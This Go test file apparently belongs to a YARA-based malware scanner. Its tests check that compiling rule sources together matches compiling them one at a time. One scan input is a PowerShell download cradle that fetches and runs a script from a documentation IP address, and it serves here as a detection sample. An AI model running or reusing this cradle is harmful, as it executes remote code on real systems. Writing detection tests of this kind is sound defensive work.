package yarascan

import (
	"context"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"testing"

	"github.com/automaldesc/automaldesc/internal/corpus"
)

// bundledSources reads the bundled rule files the way rules.Bundled does
// (that package imports this one, so its tests cannot be used here).
func bundledSources(t testing.TB) []Source {
	t.Helper()
	files, err := filepath.Glob(filepath.Join("..", "..", "rules", "bundled", "*.yar"))
	if err != nil || len(files) == 0 {
		t.Fatalf("bundled rules not found: %v", err)
	}
	sort.Strings(files)
	out := make([]Source, 0, len(files))
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, Source{Name: "rules/bundled/" + filepath.Base(f), Namespace: "bundled", Text: string(b)})
	}
	return out
}

// TestCompileTogetherFallsBack covers the cases where one compiler pass with
// a namespace per source would not give the isolated result: Compile must
// then answer as the isolated check does.
func TestCompileTogetherFallsBack(t *testing.T) {
	base := `rule Base { strings: $a = "inert-base" condition: $a }`
	tests := []struct {
		name    string
		sources []Source
	}{
		{"broken source", []Source{{Name: "a.yar", Text: goodRule}, {Name: "b.yar", Text: brokenLine3}}},
		{"reference to an earlier source's rule", []Source{
			{Name: "a.yar", Namespace: "ns", Text: base},
			{Name: "b.yar", Namespace: "ns", Text: `rule Uses { condition: Base }`},
		}},
		{"duplicate in shared namespace", []Source{
			{Name: "a.yar", Namespace: "ns", Text: goodRule},
			{Name: "c.yar", Namespace: "ns", Text: goodRule},
		}},
		{"global rule", []Source{
			{Name: "a.yar", Namespace: "ns", Text: `global rule G { condition: false }`},
			{Name: "b.yar", Namespace: "ns", Text: base},
		}},
		{"NUL byte", []Source{{Name: "a.yar", Text: goodRule}, {Name: "n.yar", Text: "\x00"}}},
		{"no sources", nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if r := compileTogether(tc.sources); r != nil {
				t.Errorf("compileTogether accepted the sources, want nil (Compile must check them one by one)")
			}
		})
	}

	// Behaviour through Compile: the rule that only compiles next to its
	// neighbour is left out, and the global rule still silences its
	// namespace.
	r, err := Compile(tests[1].sources)
	if err == nil || r == nil || r.Len() != 1 {
		t.Fatalf("got %v rules, error %v; want Base alone and an error for b.yar", r, err)
	}
	if !hasCompileError(err, CompileError{File: "b.yar", Line: 1}) {
		t.Errorf("got error %v, want a *CompileError at b.yar:1", err)
	}
	r, err = Compile(tests[3].sources)
	if err != nil {
		t.Fatal(err)
	}
	s := mustScanner(t, r)
	if ms, err := s.Scan(context.Background(), []byte("inert-base"), 0); err != nil || len(ms) != 0 {
		t.Errorf("got %+v, %v; want no match under a false global rule", ms, err)
	}
}

// TestCompileTogetherMatchesIsolated compiles the bundled rules (plus user
// style files in namespaces of their own) both ways and compares the rule
// sets: infos, version, and every match on the dev corpus.
func TestCompileTogetherMatchesIsolated(t *testing.T) {
	srcs := append(bundledSources(t),
		Source{Name: "user/a.yar", Namespace: "user:a.yar", Text: goodRule},
		Source{Name: "user/b.yar", Namespace: "user:b.yar", Text: goodRule},
	)
	fast := compileTogether(srcs)
	if fast == nil {
		t.Fatal("compileTogether rejected the bundled rules")
	}
	slow, err := compileIsolated(srcs)
	if err != nil {
		t.Fatal(err)
	}
	if fast.Version() != slow.Version() {
		t.Errorf("got version %s, want %s", fast.Version(), slow.Version())
	}
	if !reflect.DeepEqual(fast.Infos(), slow.Infos()) {
		t.Errorf("infos differ:\n got %+v\nwant %+v", fast.Infos(), slow.Infos())
	}
	inputs := [][]byte{[]byte("x inert-marker y"), []byte("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a.ps1')")}
	if dir, err := corpus.Open(corpus.Dev); err == nil {
		files, _ := filepath.Glob(filepath.Join(dir, "samples", "*"))
		for _, f := range files {
			if b, err := os.ReadFile(f); err == nil {
				inputs = append(inputs, b)
			}
		}
	} else if os.Getenv("CI") != "" {
		t.Fatalf("CI needs the shared corpora: %v", err)
	} else {
		t.Logf("dev corpus not available, comparing on fixtures only: %v", err)
	}
	fs, ss := mustScanner(t, fast), mustScanner(t, slow)
	ctx := context.Background()
	matched := 0
	for i, in := range inputs {
		got, gerr := fs.Scan(ctx, in, i)
		want, werr := ss.Scan(ctx, in, i)
		if !reflect.DeepEqual(got, want) || (gerr == nil) != (werr == nil) {
			t.Fatalf("input %d: got %+v, %v; want %+v, %v", i, got, gerr, want, werr)
		}
		if len(got) > 0 {
			matched++
		}
	}
	if matched < 2 {
		t.Errorf("only %d inputs matched anything; the comparison proves little", matched)
	}
}

func BenchmarkCompileIsolated(b *testing.B) {
	srcs := bundledSources(b)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := compileIsolated(srcs); err != nil {
			b.Fatal(err)
		}
	}
}
